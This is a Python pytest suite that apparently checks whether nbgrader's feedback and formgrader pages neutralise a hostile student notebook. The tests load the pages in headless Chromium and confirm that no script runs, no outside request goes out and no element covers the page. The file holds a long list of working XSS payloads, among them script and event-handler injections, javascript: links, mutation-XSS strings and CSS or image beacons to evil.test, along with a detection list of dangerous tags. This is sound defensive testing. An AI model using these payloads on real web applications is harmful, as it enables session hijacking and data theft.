"""Hostile notebooks graded for real: nothing of them acts in a browser's view of the pages."""

import os
import shutil
from pathlib import Path
from urllib.parse import urlsplit

import nbgrader
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader_api import open_course
from small_course import ASSIGNMENT, hand_in, submission

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")

FORMGRADER = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
HOST = "http://grader.test"
PAGES_OWN = {"cdnjs.cloudflare.com"}  # MathJax, which nbgrader's templates load
RUN = "window.pwned=1"
IMG = f'<img src=x onerror="{RUN}">'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
BREAKS_OUT = f'x" onerror="{RUN}" a="'

HTML = [
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    IMG,
    f"<svg onload='{RUN}'></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.pwned=1'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action=http://evil.test/form><input name=token autofocus onfocus='{RUN}'></form>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<video><source onerror='{RUN}'></video>",
    f"<style onload='{RUN}'></style>",
    f"<noscript><p title='</noscript>{IMG}'></noscript>",
    f"<textarea><p title='</textarea>{IMG}'></textarea>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<a href='javascript:{RUN}' class=bait>click</a>",
    "<a href='/logout' class=bait>click</a>",
    "<a href='evil.html' class=bait>click</a>",
    "<base href=http://evil.test/base/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    "<link rel=stylesheet href=http://evil.test/link.css>",
    "<link rel=prefetch href=http://evil.test/prefetch>",
    "<style>@import 'http://evil.test/import.css';</style>",
    "<style>body{background:url(http://evil.test/css)} div{display:none}</style>",
    "<div style='background:url(http://evil.test/style)'>x</div>",
    "<div style='background-image:image-set(\"http://evil.test/set\" 1x)'>x</div>",
    "<img src=http://evil.test/img>",
    "<img srcset='http://evil.test/srcset 1x'>",
    "<table background=http://evil.test/table><tr><td>x</td></tr></table>",
    "<video poster=http://evil.test/poster></video>",
    "<img src='/logout'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>100 %</div>",
    "<div class='navbar-fixed-top modal'>100 %</div>",
    "<p style='margin-top:-500px'>over you</p>",
    "<input class=score id=test-double value=100>",
    "</div></div></div></body></html>",
    "<b>" * 3000,
]
BUNDLES = [
    {"application/javascript": RUN},
    {"text/markdown": IMG},
    {"text/markdown": f"[click](javascript:{RUN})"},
    {"text/markdown": f"```mermaid\n{IMG}\n```"},
    {"text/latex": f"$x$ {IMG}"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"},
    {"image/svg+xml": f'"><script>{RUN}</script>'},
    {"image/png": BREAKS_OUT},
    {"image/jpeg": BREAKS_OUT},
    {"image/gif": BREAKS_OUT},
    {"text/vnd.mermaid": f"{IMG}"},
    {"application/pdf": BREAKS_OUT},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{IMG}"}},
    {"application/json": {"a": IMG}},
    {"text/x-unknown": IMG},
    {IMG: IMG},
]
TEXTS = [
    f"# {IMG}",
    f"[click](javascript:{RUN})",
    f"[click][a]\n\n[a]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"```mermaid\n{IMG}\n```",
    f"`` ` {IMG}",
    f"```\n{IMG}\n```\n{IMG}",
    f"$x$ {IMG} $$ {IMG} $$",
    f"\\begin{{a}} {IMG} \\end{{a}}",
    f"| a |\n|---|\n| {IMG} |",
    "![](http://evil.test/markdown)",
    "![](//evil.test/markdown)",
    "![](files//evil.test/files.png)",
    "![](/logout)",
    "![](attachment:a.png)",
    "![](attachment:missing.png)",
    '![a](x.png "\\" onerror=window.pwned=1 a=\\"")',
    "# statusmessage\n\n# test-double",
    "<details><summary>All right</summary>",
    "* " * 200 + "deep",
    *HTML,
]
ATTACHMENTS = {
    "a.png": {"image/png": BREAKS_OUT},
    "b.png": {"text/html": "PHNjcmlwdD4=", "image/svg+xml": BREAKS_OUT},
}


def display(bundle):
    return new_code_cell(f"from IPython.display import display\ndisplay({bundle!r}, raw=True)")


def hostile():
    """The small course's first notebook with every payload in every place that takes it."""
    notebooks = submission(words=f"My answer. {IMG}")
    cells = notebooks["doubling"]
    cells += [display({"text/html": html}) for html in HTML]
    cells += [display(bundle) for bundle in BUNDLES]
    cells += [new_markdown_cell(text, attachments=ATTACHMENTS) for text in TEXTS]
    cells += [new_raw_cell(html, metadata={"raw_mimetype": "text/html"}) for html in HTML]
    cells.append(new_code_cell(f"print({IMG!r}, '\\x1b]8;;javascript:{RUN}\\x07a\\x1b]8;;\\x07')"))
    cells.append(new_code_cell(f"class Bad{{}}(Exception): pass\n# {IMG}"))
    cells.append(new_code_cell(f"raise type({IMG!r}, (Exception,), {{}})({IMG!r})"))
    return notebooks


def honest():
    notebooks = submission(
        words="# Twice\n\nas $\\alpha$ < **much**, a<b and b>c:\n\n| x | 2x |\n|---|---|\n| 1 | 2 |"
    )
    notebooks["doubling"] += [
        new_code_cell("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"),
        new_code_cell("import pandas as pd\ntable = pd.DataFrame({'height': [1, 2]})\ntable"),
        new_code_cell(
            "from IPython.display import display, Math, Markdown, SVG\n"
            "display(table.style.map(lambda x: 'background-color: #ff0000'))"
        ),
        new_code_cell("display(Math(r'\\beta'), Markdown('**bold** `code`'))"),
        new_code_cell(
            'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
            '<circle r="4"/></svg>\'))'
        ),
        new_markdown_cell("![](attachment:a.png)", attachments={"a.png": {"image/png": PNG}}),
    ]
    return notebooks


@pytest.fixture(scope="module")
def pages(released_course, tmp_path_factory):
    """The pages of a hostile and an honest submission, as HTML: feedback and formgrader's view."""
    root = shutil.copytree(released_course, tmp_path_factory.mktemp("pages") / "course")
    hand_in(root, "eve", hostile())
    hand_in(root, "ada", honest())
    (root / "submitted" / "eve" / ASSIGNMENT / "evil.html").write_text(f"<script>{RUN}</script>")
    (root / "submitted" / "eve" / ASSIGNMENT / "evil.svg").write_text("<svg/>")
    api, course = open_course(root)
    found = {}
    for student in ("eve", "ada"):
        answer = api.autograde(ASSIGNMENT, student)
        assert answer["success"], answer
        answer = api.generate_feedback(ASSIGNMENT, student)
        assert answer["success"], answer
        folder = course.feedback_folder(ASSIGNMENT, student)
        found[student, "feedback"] = (folder / "doubling.html").read_text()
        graded = course.autograded_folder(ASSIGNMENT, student) / "doubling.ipynb"
        found[student, "formgrader"] = formgraders_view(graded)
    return root, found


def formgraders_view(graded):
    """What formgrader's handler answers for a graded notebook."""
    exporter = HTMLExporter(
        template_name="formgrade", extra_template_basedirs=[str(FORMGRADER / "templates")]
    )
    names = {"assignment_id": ASSIGNMENT, "notebook_id": "doubling", "submission_id": "1"}
    more = {
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "eve",
        "last_name": "",
        "first_name": "",
    }
    html, _ = exporter.from_filename(graded, resources={**names, **more, "notebook_path": "x"})
    return html


@pytest.fixture(scope="module")
def browser():
    with (
        sync_api.sync_playwright() as playwright,
        playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        ) as launched,
    ):
        yield launched


def opened(browser, html):
    """The page, loaded, with the addresses that it asked for, and the dialogs that it opened."""
    page = browser.new_context().new_page()
    asked, dialogs = [], []

    def answer(route):
        url = urlsplit(route.request.url)
        asked.append(route.request.url)
        static = FORMGRADER / url.path.removeprefix("/formgrader/")
        if url.path == "/submission/":
            route.fulfill(body=html, content_type="text/html")
        elif url.hostname == "grader.test" and url.path.startswith("/formgrader/static/"):
            route.fulfill(path=static) if static.is_file() else route.abort()
        elif url.path.startswith("/formgrader/api/"):
            route.fulfill(body="[]", content_type="application/json")
        else:
            route.abort()

    page.route("**/*", answer)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{HOST}/submission/", wait_until="load")
    return page, asked, dialogs


VIEWS = ["feedback", "formgrader"]


@pytest.mark.parametrize("view", VIEWS)
def test_nothing_of_a_hostile_notebook_acts(pages, browser, view):
    page, asked, dialogs = opened(browser, pages[1]["eve", view])
    for link in page.locator("#notebook-container a[href]:not([href^='#'])").all():
        assert urlsplit(link.get_attribute("href")).scheme in ("http", "https", "mailto")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert {urlsplit(url).hostname for url in asked} <= PAGES_OWN | {"grader.test"}
    assert not [url for url in asked if "logout" in url]
    assert page.evaluate(ACTIVE) == []
    assert page.evaluate(COVERING) == []


# Elements of the student's that could act: an honest page has none either.
ACTIVE = """() => [...document.querySelectorAll('#notebook-container *')].filter(e =>
    ['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'META', 'LINK', 'SVG', 'MATH',
     'VIDEO', 'AUDIO'].includes(e.tagName.toUpperCase())
    || [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML)"""
COVERING = """() => [...document.querySelectorAll('#notebook-container *')].filter(e =>
    ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)
    && !e.closest('.panel-heading')).map(e => e.outerHTML.slice(0, 300))"""


@pytest.mark.parametrize("view", VIEWS)
def test_the_page_s_own_elements_stay_its_own(pages, browser, view):
    page, _, _ = opened(browser, pages[1]["eve", view])
    cells = page.locator("#notebook-container > .cell")
    assert cells.count() == len(hostile()["doubling"])
    if view == "formgrader":
        found = page.evaluate("$('#test-double').parents('.nbgrader_cell').find('.score').length")
        assert found == 1
        assert page.evaluate("$('#statusmessage').is('body > div')")


@pytest.mark.parametrize("view", VIEWS)
def test_what_an_honest_student_shows_is_seen(pages, browser, view):
    page, _, _ = opened(browser, pages[1]["ada", view])
    widths = page.evaluate("[...document.querySelectorAll('img')].map(i => i.naturalWidth)")
    assert len(widths) == 3  # the plot, the drawing and the picture that was pasted in
    assert all(widths)
    text = page.inner_text("#notebook-container")
    for seen in ("height", "$\\alpha$", "\\beta", "a<b and b>c", "bold"):
        assert seen in text
    red = page.evaluate(
        "[...document.querySelectorAll('td')].map(t => getComputedStyle(t).backgroundColor)"
    )
    assert red.count("rgb(255, 0, 0)") == 2
    assert page.locator("h1", has_text="Twice").count() == 1
    if shots := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=f"{shots}/{view}.png", full_page=True)


def test_a_student_s_own_pages_are_not_served(pages):
    graded = pages[0] / "autograded" / "eve" / ASSIGNMENT
    assert {path.name for path in graded.iterdir()} >= {"diary.txt", "doubling.ipynb"}
    assert not [path.name for path in graded.iterdir() if path.name.startswith("evil")]
    assert (pages[0] / "submitted" / "eve" / ASSIGNMENT / "evil.html").exists()
